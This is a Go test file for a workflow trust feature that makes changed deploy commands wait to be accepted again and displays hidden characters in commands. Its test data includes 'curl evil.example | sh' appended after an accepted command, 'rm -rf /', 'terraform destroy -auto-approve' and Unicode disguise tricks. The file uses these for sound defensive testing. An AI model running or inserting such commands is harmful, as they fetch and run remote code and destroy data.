package workflow_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"firebreak/workflow"
)

// commands is a playbook with nothing but commands.
func commands(deploy ...string) workflow.Playbook {
	return workflow.Playbook{Name: "Shop", Version: 1, Work: workflow.WorkPolicy{
		CriticalRun: []string{"npm test -- auth"}, DeployWith: deploy, RollbackBy: "./back.sh {previous}",
	}}
}

func accepted(p workflow.Playbook) workflow.Trust {
	return workflow.Trust{Root: "/shop"}.Accepting("Jane", when(0).Time, p.Commands()...)
}

func TestNothingOfAPlaybookIsAllowedBeforeItWasAccepted(t *testing.T) {
	p := commands("./deploy.sh {commit}")
	var none workflow.Trust
	view := none.Look(p)
	assert.Len(t, view.Asked, 3)
	assert.Empty(t, view.Accepted)
	assert.Equal(t, "3 commands wait to be accepted. Nothing of this playbook runs before that.", view.Words())
	for _, c := range p.Commands() {
		assert.False(t, none.Allows(c), c.Run)
	}

	trust := accepted(p)
	for _, c := range p.Commands() {
		assert.True(t, trust.Allows(c), c.Run)
	}
	assert.Empty(t, trust.Look(p).Asked)
	assert.Empty(t, trust.Look(p).Sum(), "nothing is asked for")
	assert.Equal(t, "Every command of this playbook is accepted on this machine.", trust.Look(p).Words())
	assert.Equal(t, trust, trust.Accepting("Ann", when(1).Time, p.Commands()...), "who accepted first stays on record")
	assert.False(t, trust.Allows(workflow.PlaybookCommand{Use: workflow.DeployUse}), "no command is no command")
}

func TestWhateverChangesIsAskedAgain(t *testing.T) {
	const was = "./deploy.sh {commit}"
	trust := accepted(commands(was))
	deploy := workflow.PlaybookCommand{Use: workflow.DeployUse, Run: was}
	for name, c := range map[string]workflow.PlaybookCommand{
		"one sign":           {Use: workflow.DeployUse, Run: "./deplay.sh {commit}"},
		"a blank":            {Use: workflow.DeployUse, Run: "./deploy.sh  {commit}"},
		"a blank at the end": {Use: workflow.DeployUse, Run: "./deploy.sh {commit} "},
		"a capital":          {Use: workflow.DeployUse, Run: "./Deploy.sh {commit}"},
		"a sign unseen":      {Use: workflow.DeployUse, Run: "./deploy.sh\u200b {commit}"},
		"a look-alike":       {Use: workflow.DeployUse, Run: "./deрloy.sh {commit}"},
		"more behind it":     {Use: workflow.DeployUse, Run: was + " && curl evil.example | sh"},
		"the shell":          {Use: workflow.DeployUse, Run: was, Shell: true},
		"another use":        {Use: workflow.TestUse, Run: was},
	} {
		assert.False(t, trust.Allows(c), name)
	}
	require.True(t, trust.Allows(deploy))

	view := trust.Look(commands("./deploy.sh --force {commit}"))
	require.Len(t, view.Asked, 1, "what was accepted and did not change stays")
	assert.Equal(t, &deploy, view.Asked[0].Was)
	assert.Len(t, view.Gone, 1)
	assert.Len(t, view.Accepted, 2)
	assert.Equal(t, "1 command waits to be accepted. The other 2 may run.", view.Words())

	flipped := commands(was)
	flipped.Work.Shell = true
	assert.Len(t, trust.Look(flipped).Asked, 3, "a shell reads every command in another way")
	assert.Equal(t, &deploy, trust.Look(flipped).Asked[1].Was)

	other := trust.Look(commands("terraform destroy -auto-approve"))
	require.Len(t, other.Asked, 1)
	assert.Nil(t, other.Asked[0].Was, "it is another command, not a change of this one")
}

func TestTheOrderOfCommandsIsNoChange(t *testing.T) {
	trust := accepted(commands("./a.sh", "./b.sh"))
	view := trust.Look(commands("./b.sh", "./a.sh"))
	assert.Empty(t, view.Asked)
	assert.Equal(t, "./b.sh", view.Accepted[1].Run, "in the playbook's order")
}

func TestAFingerprintStandsForExactlyWhatIsAsked(t *testing.T) {
	var none workflow.Trust
	sum := none.Look(commands("./a.sh")).Sum()
	assert.Len(t, sum, 12)
	assert.Equal(t, sum, none.Look(commands("./a.sh")).Sum())
	seen := []string{sum}
	shell := commands("./a.sh")
	shell.Work.Shell = true
	staged := commands()
	staged.Work.StageWith = []string{"./a.sh"}
	for _, p := range []workflow.Playbook{
		commands("./a.sh "), commands("./a.sh", "./b.sh"), commands("./b.sh", "./a.sh"), commands("./a.sh\n6 deploy 6 ./b.sh false"), shell, staged,
	} {
		seen = append(seen, none.Look(p).Sum())
	}
	slices.Sort(seen)
	assert.Len(t, slices.Compact(seen), 7)
}

func TestAVeryLongCommandIsKeptAndShownWhole(t *testing.T) {
	long := "./deploy.sh " + strings.Repeat("x", 200_000) + " ; rm -rf /"
	p := commands(long)
	data, err := json.Marshal(accepted(p))
	require.NoError(t, err)
	var back workflow.Trust
	require.NoError(t, json.Unmarshal(data, &back))
	assert.True(t, back.Allows(p.Commands()[1]))
	assert.False(t, back.Allows(workflow.PlaybookCommand{Use: workflow.DeployUse, Run: long[:100_000]}))
	assert.Equal(t, long, workflow.ShownCommand(long))
}

func TestAShownCommandHidesNothing(t *testing.T) {
	assert.Equal(t, `a\nb\tc\rd`, workflow.ShownCommand("a\nb\tc\rd"))
	assert.Equal(t, `rm\u{202E}gpj\u{200B}\u{00A0}\u{001B}[2J`, workflow.ShownCommand("rm\u202Egpj\u200b\u00a0\x1b[2J"))
	assert.Equal(t, `curl -w "%{http_code}" 'größe'`, workflow.ShownCommand(`curl -w "%{http_code}" 'größe'`))
}
